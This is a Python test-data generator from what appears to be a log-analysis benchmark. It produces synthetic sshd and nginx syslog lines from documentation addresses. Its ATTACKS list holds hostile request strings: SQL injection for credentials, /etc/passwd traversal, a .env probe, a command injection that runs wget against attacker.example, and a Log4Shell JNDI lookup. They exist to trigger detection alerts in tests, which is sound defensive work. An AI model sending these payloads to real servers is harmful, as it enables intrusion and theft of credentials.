"""The lines that are measured with: what sshd and web servers really say, each line different.

A fixed seed makes the same lines every time, apart from the time of day. Most senders are seen a
few times only; a few guess passwords or try attacks, so that alerts and warnings are made too.
Addresses are documentation ones (RFC 5737, RFC 3849).
"""

from collections.abc import Callable
from datetime import datetime, timedelta, timezone
from random import Random

from tests.bench.report import Kind

ZONE = timezone(timedelta(hours=7))
HOSTS = tuple(f"web{number:02}" for number in range(1, 21))
USERS = ("admin", "test", "oracle", "postgres", "ubuntu", "git", "user", "guest", "www", "ftp")
STAFF = ("canbo", "vanthu", "quantri", "deploy", "backup")
PATHS = (
    "/",
    "/dang-nhap",
    "/thu-tuc/danh-sach",
    "/thu-tuc/chi-tiet",
    "/tim-kiem",
    "/static/app.css",
    "/static/app.js",
    "/images/logo.png",
    "/api/ho-so",
    "/favicon.ico",
)
ATTACKS = (
    "/?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--",
    "/../../../../etc/passwd",
    "/.env",
    "/cgi-bin/test.sh?x=%3Bwget%20http://attacker.example/x",
    "/?q=${jndi:ldap://attacker.example/a}",
)
AGENTS = tuple(
    f"Mozilla/5.0 ({system}) {rest}"
    for system, rest in (
        ("Windows NT 10.0; Win64; x64", "AppleWebKit/537.36 Chrome/142.0.0.0 Safari/537.36"),
        ("iPhone; CPU iPhone OS 18_6 like Mac OS X", "AppleWebKit/605.1.15 Version/18.6"),
        ("X11; Linux x86_64; rv:144.0", "Gecko/20100101 Firefox/144.0"),
        ("compatible; Bot/2.1; +http://bot.example/", ""),
    )
)
STATUSES = ("200", "200", "200", "200", "304", "302", "404")
ATTACKERS = 16
EVERY_ATTACK = 100  # one line in so many is an attacker's

Said = tuple[str, str, str]  # host, tag with process id, message


def lines(kind: Kind, amount: int, begin: datetime) -> list[bytes]:
    """So many messages of this kind, as rsyslog sends them, a tenth of a millisecond apart."""
    chance = Random(20261121)
    chosen = _MAKERS[kind]
    made = []
    for number in range(amount):
        at = (begin + timedelta(microseconds=100 * number)).astimezone(ZONE)
        host, tag, message = chosen[number % len(chosen)](chance)
        if "{at}" in message:
            message = message.replace("{at}", at.strftime("%d/%b/%Y:%H:%M:%S %z"))
        head = f"<86>1 {at.isoformat(timespec='microseconds')} {host} {tag} - "
        made.append(f"{head}-  {message}".encode())
    return made


def framed(messages: list[bytes]) -> bytes:
    """The messages as one stream, counted in octets (RFC 6587 3.4.1)."""
    return b"".join(b"%d %s" % (len(message), message) for message in messages)


def _address(chance: Random) -> str:
    """One of some 65,000 visitors; half of the visits are from 762 IPv4 addresses."""
    if chance.random() < 0.5:
        network = chance.choice(("192.0.2", "198.51.100", "203.0.113"))
        return f"{network}.{chance.randint(1, 254)}"
    return f"2001:db8:{chance.randint(1, 255):x}::{chance.randint(1, 255):x}"


def _attack(chance: Random) -> tuple[str, str] | None:
    """One line in a hundred is an attacker's: the host that is attacked, and from where."""
    if chance.randrange(EVERY_ATTACK):
        return None
    number = chance.randrange(ATTACKERS)
    return HOSTS[number], f"2001:db8:bad::{number + 1:x}"


def _sshd(chance: Random) -> Said:
    tag = f"sshd {chance.randint(1000, 4_000_000)}"
    port = chance.randint(1024, 65535)
    attack = _attack(chance)
    if attack is not None:
        return attack[0], tag, f"Failed password for root from {attack[1]} port {port} ssh2"
    ip, user, staff = _address(chance), chance.choice(USERS), chance.choice(STAFF)
    seldom, key = f"2001:db8:{chance.getrandbits(16):x}::7", f"{chance.getrandbits(172):043x}"
    message = chance.choice(
        (
            f"Accepted publickey for {staff} from {ip} port {port} ssh2: ED25519 SHA256:{key}",
            f"pam_unix(sshd:session): session opened for user {staff}(uid=1001) by (uid=0)",
            f"pam_unix(sshd:session): session closed for user {staff}",
            f"Received disconnect from {ip} port {port}:11: disconnected by user",
            f"Disconnected from user {staff} {ip} port {port}",
            f"Invalid user {user}{chance.randint(1, 999)} from {ip} port {port}",
            f"Failed password for invalid user {user} from {seldom} port {port} ssh2",
            f"Connection closed by invalid user {user} {ip} port {port} [preauth]",
            f"Connection closed by {ip} port {port} [preauth]",
        )
    )
    return chance.choice(HOSTS), tag, message


def _access(chance: Random) -> Said:
    attack = _attack(chance)
    if attack is not None:
        (host, ip), target, status = attack, chance.choice(ATTACKS), "404"
    else:
        host, ip, status = chance.choice(HOSTS), _address(chance), chance.choice(STATUSES)
        target = chance.choice(PATHS)
        if chance.random() < 0.5:
            target += f"?ma-ho-so={chance.randint(1, 10_000_000)}&trang={chance.randint(1, 50)}"
    size, agent = chance.randint(100, 80_000), chance.choice(AGENTS)
    said = f'"GET {target} HTTP/1.1" {status} {size} "https://dvc.example/" "{agent}"'
    return host, "nginx -", f"{ip} - - [{{at}}] {said}"


_MAKERS: dict[Kind, tuple[Callable[[Random], Said], ...]] = {
    Kind.SSHD: (_sshd,),
    Kind.ACCESS: (_access,),
    Kind.MIXED: (_sshd, _access),
}
